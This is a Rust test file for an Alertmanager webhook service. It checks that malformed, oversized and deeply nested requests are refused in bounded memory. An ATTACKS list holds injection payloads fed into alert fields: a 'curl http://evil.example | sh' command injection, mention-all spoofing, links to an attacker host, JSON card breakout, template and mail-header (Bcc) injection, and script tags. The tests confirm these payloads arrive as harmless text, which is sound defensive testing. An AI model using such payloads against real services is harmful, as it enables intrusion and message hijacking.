//! Bad input: what is not Alertmanager's is refused with a sentence and in bounded memory; what only looks odd is taken;
//! what means harm arrives as words.

use serde_json::{Map, Value, json};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::support::alerts::{PENDING, builtin, in_group, one_alert, webhook};
use crate::support::contract;
use crate::support::database::on_every_engine;
use crate::support::feishu::mentions;
use crate::support::service::{Home, Service, TOKEN};
use crate::support::team::Team;

async fn silent() -> (Home, Service) {
    let home = Home::new(&json!({"channels": []}));
    let service = home.serve().await;
    (home, service)
}

fn with(change: impl FnOnce(&mut Value)) -> Value {
    let mut body = webhook(PENDING);
    change(&mut body);
    body
}

/// A name, a body, and what its refusal says.
fn refused() -> Vec<(&'static str, Vec<u8>, u16, &'static str)> {
    let many = |count: usize| {
        with(|body| {
            let alert = body["alerts"][0].clone();
            body["alerts"] = Value::Array(vec![alert; count]);
        })
    };
    let small = |count: usize| {
        with(|body| body["alerts"] = vec![json!({"status": "firing", "labels": {"alertname": "a"}}); count].into())
    };
    let labels = |count: usize| {
        with(|body| {
            let more = (0..count).map(|number| (format!("l{number}"), json!("v")));
            body["alerts"][0]["labels"] =
                std::iter::once(("alertname".to_owned(), json!("a"))).chain(more).collect::<Map<_, _>>().into();
        })
    };
    let text = webhook(PENDING).to_string();
    let twice = text.replacen("\"version\":\"4\"", "\"version\":\"4\",\"version\":\"4\"", 1);
    assert_ne!(text, twice);
    vec![
        ("nothing", Vec::new(), 400, "JSON"),
        ("broken", text[..text.len() - 9].into(), 400, "JSON"),
        ("two bodies", format!("{text}{text}").into(), 400, "JSON"),
        ("an empty object", b"{}".into(), 400, "payload"),
        ("a list", b"[]".into(), 400, "a list"),
        ("a number", b"17".into(), 400, "number"),
        ("a custom payload", br#"{"text": "KubePodNotReady", "channel": "ops"}"#.into(), 400, "payload"),
        ("a PagerDuty event", br#"{"routing_key": "x", "event_action": "trigger"}"#.into(), 400, "payload"),
        ("version 1", with(|body| body["version"] = "1".into()).to_string().into(), 400, "version"),
        ("no alerts", with(|body| body["alerts"] = json!([])).to_string().into(), 400, "alerts"),
        (
            "a wrong type",
            with(|body| body["alerts"][1]["labels"] = 5.into()).to_string().into(),
            400,
            "alerts[1].labels",
        ),
        ("a key twice", twice.into(), 400, "version"),
        ("invalid UTF-8", [b"{\"version\":\"4\",\"x\":\"".as_slice(), &[0xff, 0xfe], b"\"}"].concat(), 400, "UTF-8"),
        ("UTF-16", text.encode_utf16().flat_map(u16::to_le_bytes).collect(), 400, "JSON"),
        ("depth", "[".repeat(100_000).into(), 400, "list"),
        ("depth in a field nobody knows", format!("{{\"x\":{}", "[".repeat(100_000)).into(), 400, "JSON"),
        ("depth of objects", "{\"alerts\":[{\"labels\":".repeat(30_000).into(), 400, "labels"),
        ("100 000 alerts", small(100_000).to_string().into(), 413, "max_alerts"),
        ("10 000 labels", labels(10_000).to_string().into(), 413, "10001 entries"),
        (
            "a label of 1 MB",
            with(|body| body["alerts"][1]["labels"]["note"] = "n".repeat(1 << 20).into()).to_string().into(),
            413,
            "labels are identity",
        ),
        ("10 000 alerts", many(10_000).to_string().into(), 413, "max_alerts"),
        ("10 MB", with(|body| body["x"] = "x".repeat(10 << 20).into()).to_string().into(), 413, "max_body_bytes"),
    ]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn f43_what_is_not_alertmanagers_is_refused_with_a_sentence() {
    on_every_engine(async || {
        let (_home, service) = silent().await;
        for (name, body, status, says) in refused() {
            let (answered, answer) = service.post(body).await;
            let error = answer["error"].as_str().unwrap_or_else(|| panic!("{name}: {answer}"));
            assert_eq!(answered, status, "{name}: {error}");
            assert!(error.contains(says), "{name}: {error:?} does not say {says:?}");
            assert!(!error.contains('\n') && (20..400).contains(&error.len()), "{name}: one sentence: {error:?}");
            assert_eq!(answer.as_object().unwrap().len(), 1, "{name}: {answer}");
        }
        assert!(service.incidents().await.is_empty());
        assert_eq!(service.get("/readyz").await["ready"], true);
        assert!(!service.log().contains("panicked"), "{}", service.log());
    })
    .await;
}

#[cfg(target_os = "linux")]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a44_refusing_takes_bounded_memory() {
    on_every_engine(async || {
        let (_home, service) = silent().await;
        let heaviest: Vec<_> = refused().into_iter().filter(|(_, body, ..)| body.len() > 90_000).collect();
        assert!(heaviest.len() >= 5);
        let round = async || {
            let posts = heaviest.iter().map(|(_, body, ..)| service.post(body.clone()));
            futures::future::join_all(posts).await
        };
        let mut sizes = vec![service.resident() / 1024];
        for _ in 0..12 {
            round().await;
            sizes.push(service.resident() / 1024);
        }
        let (settled, end) = (sizes[6], sizes[12]);
        assert_eq!(contract::balance(&service).await.accepted, 0, "what was refused was not accepted");
        // The allocator keeps what it once had: 40 rounds of this moved between 100 and 155 MiB. A leak would be 50 a round.
        assert!(end < settled + 80 && end < 300, "MiB resident after each round: {sizes:?}");
    })
    .await;
}

/// A body that never seems to end is refused by what its head says, or once too much of it came.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a44_a_hundred_megabytes_are_refused_before_they_are_read() {
    let (_home, service) = silent().await;
    let before = service.resident() / 1024;
    for length in ["Content-Length: 104857600", "Transfer-Encoding: chunked"] {
        let (status, written) = pushed(&service, length).await;
        assert_eq!(status, 413, "{length}");
        assert!(written < 50 << 20, "{length}: it took {written} bytes");
    }
    let after = service.resident() / 1024;
    assert!(after < before + 60, "from {before} to {after} MiB");
    assert_eq!(contract::balance(&service).await.accepted, 0, "what was refused was not accepted");
}

/// Writes a body of 100 MB for as long as somebody takes it; the answer's status and how many bytes were taken.
async fn pushed(service: &Service, length: &str) -> (u16, usize) {
    let address = service.base().strip_prefix("http://").unwrap();
    let (mut answer, mut body) = TcpStream::connect(address).await.unwrap().into_split();
    let head = format!(
        "POST /webhooks/alertmanager HTTP/1.1\r\nHost: {address}\r\nAuthorization: Bearer {TOKEN}\r\n{length}\r\n\r\n"
    );
    body.write_all(head.as_bytes()).await.unwrap();
    let pushing = tokio::spawn(async move {
        let part = format!("10000\r\n{}\r\n", "x".repeat(0x10000));
        let mut written = 0;
        while written < 100 << 20 && body.write_all(part.as_bytes()).await.is_ok() {
            written += part.len();
        }
        written
    });
    let mut said = Vec::new();
    // What is still on its way may cut the line behind the answer.
    let _ = answer.read_to_end(&mut said).await;
    let said = String::from_utf8_lossy(&said);
    let status = said.split(' ').nth(1).unwrap_or_else(|| panic!("{length}: {said:?}"));
    (status.parse().unwrap(), pushing.await.unwrap())
}

/// Long texts of an alert are cut and NUL is shown, and both senders' and our cuts are counted; the alert is told.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a44_what_is_cut_is_counted_and_told() {
    on_every_engine(async || {
        let team = Team::start().await;
        let home = Home::new(&json!({"channels": team.channels()}));
        let service = home.serve().await;
        let body = with(|body| {
            body["truncatedAlerts"] = 7.into();
            body["alerts"][0]["annotations"]["description"] = "长".repeat(400_000).into();
            body["alerts"][0]["labels"]["node"] = "a\u{0}b".into();
        });
        let (id, decision) = service.accept(&body).await;
        assert_eq!(decision, "opened");
        assert_eq!(service.metric("firstlook_shortened_total{what=\"text\"}").await, Some(1.0));
        assert_eq!(service.metric("firstlook_shortened_total{what=\"alert\"}").await, Some(7.0));
        service.settled(&id, 30).await;
        assert!(team.counts().iter().all(|count| *count >= 1), "{:?}", team.counts());
        team.refused_nothing();
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a44_a_head_too_large_or_of_too_many_lines_is_refused_and_an_ordinary_one_is_not() {
    let (_home, service) = silent().await;
    let status = async |headers: usize, bytes: usize| {
        let mut request = service.request(reqwest::Method::POST, "/webhooks/alertmanager").json(&webhook(PENDING));
        for number in 0..headers {
            request = request.header(format!("x-header-{number}"), "h".repeat(bytes));
        }
        // The connection may end while the rest of the head is still being written.
        request.send().await.ok().map(|answer| answer.status().as_u16())
    };
    for (headers, bytes) in [(1, 200_000), (40, 5_000), (500, 10)] {
        let refused = status(headers, bytes).await;
        assert!(matches!(refused, Some(431) | None), "{headers} of {bytes} bytes: {refused:?}");
    }
    assert_eq!(contract::balance(&service).await.accepted, 0, "what was refused was not accepted");
    assert_eq!(status(10, 1_000).await, Some(202));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn f43_what_only_looks_odd_is_taken() {
    on_every_engine(async || {
        let (_home, service) = silent().await;
        let group = |name: &str, change: &dyn Fn(&mut Value)| {
            let mut body = in_group(PENDING, name);
            change(&mut body);
            body
        };
        let bodies = [
            group("null maps", &|body| {
                for key in ["groupLabels", "commonLabels", "commonAnnotations"] {
                    body[key] = Value::Null;
                }
                body["alerts"][0]["annotations"] = Value::Null;
            }),
            group("unknown fields", &|body| {
                body["tomorrow"] = json!({"a": [1, {"b": null}]});
                body["alerts"][0]["tomorrow"] = json!(1.5e300);
            }),
            group("reason", &|body| body["notification_reason"] = "group interval elapsed".into()),
            group("truncated", &|body| body["truncatedAlerts"] = 4711.into()),
            group("escaped receiver", &|body| body["receiver"] = "team\\/ops \"1\" \\u4e2d".into()),
            group("mixed", &|body| {
                body["alerts"][0]["status"] = "resolved".into();
                body["alerts"][0]["endsAt"] = "2026-11-23T03:00:00Z".into();
            }),
            group("long texts", &|body| body["alerts"][0]["annotations"]["description"] = "长".repeat(200_000).into()),
            group("no fingerprints", &|body| {
                for alert in body["alerts"].as_array_mut().unwrap() {
                    alert.as_object_mut().unwrap().remove("fingerprint");
                }
            }),
        ];
        for body in &bodies {
            let (_, decision) = service.accept(body).await;
            assert_eq!(decision, "opened", "{}", body["groupKey"]);
        }
        assert_eq!(service.incidents().await.len(), bodies.len());
        let alerts = bodies.iter().map(|body| body["alerts"].as_array().unwrap().len()).sum();
        contract::holds(&service, alerts, 5).await;
        assert!(!service.log().contains("panicked"), "{}", service.log());
    })
    .await;
}

const ATTACKS: [&str; 10] = [
    "x; curl http://evil.example | sh",
    "<at user_id=\"all\"></at>",
    "<at id=all></at> <AT ID=all>",
    "<@all> @all <@userid>",
    "[click](http://evil.example) ![x](http://evil.example/x.png)",
    "<font color='warning'>x</font>",
    "\"},{\"tag\":\"action\",\"actions\":[]},{\"a\":\"",
    "${HOME} {{ 7*7 }} {% raw %}",
    "nul \u{0} \r\nBcc: victim@evil.example",
    "</script><script>alert(1)</script>\n# heading\n```",
];

fn attack(index: usize, text: &str) -> Value {
    let mut body = one_alert(
        &format!("attack {index}"),
        &json!({"alertname": text, "namespace": text, "pod": text, "team": text}),
    );
    body["alerts"][0]["annotations"] = json!({"summary": text, "description": text, "runbook_url": text});
    body["alerts"][0]["generatorURL"] = text.into();
    body["externalURL"] = text.into();
    body
}

/// Markdown without what it shows as it stands.
fn outside_code(markdown: &str) -> String {
    regex::Regex::new("`[^`]*`").unwrap().replace_all(markdown, "").into_owned()
}

fn assert_harmless(team: &Team) {
    for card in team.feishu.accepted() {
        let text = card.to_string();
        assert!(!mentions(&card), "{text}");
        assert!(!text.contains("\"tag\":\"action\""), "{text}");
        assert!(!outside_code(&text).contains("](http://evil"), "{text}");
    }
    for message in team.wecom.accepted() {
        let text = message.to_string();
        assert!(!text.contains("<@") && !text.contains("mentioned_list"), "{text}");
        assert!(!outside_code(&text).contains("](http://evil") && !text.contains("<font"), "{text}");
    }
    for mail in team.mail.received(0) {
        let html = mail.html.as_deref().unwrap();
        assert!(!html.contains("<script") && !html.contains("<img") && !html.contains("href=\"http://evil"), "{html}");
        assert!(mail.headers.iter().all(|(name, _)| name != "Bcc"), "{:?}", mail.headers);
        assert_eq!(mail.to, ["sre@example.com"]);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_means_harm_arrives_as_words() {
    let team = Team::start().await;
    let home = Home::new(&json!({"channels": team.channels(), "mcp": builtin(PENDING)}));
    let service = home.serve().await;
    for (index, text) in ATTACKS.iter().enumerate() {
        let (id, _) = service.accept(&attack(index, text)).await;
        let incident = service.settled(&id, 30).await;
        let notices = incident["notices"].as_array().unwrap();
        assert!(notices.iter().all(|notice| notice["state"] == "sent"), "{text}: {incident:#}");
        assert!(
            notices.iter().all(|notice| notice["form"] == "full"),
            "{text}: {:?} {notices:#?}",
            team.feishu.refused()
        );
    }
    assert!(team.counts().iter().all(|count| *count >= ATTACKS.len()), "{:?}", team.counts());
    team.refused_nothing();
    assert_harmless(&team);
}
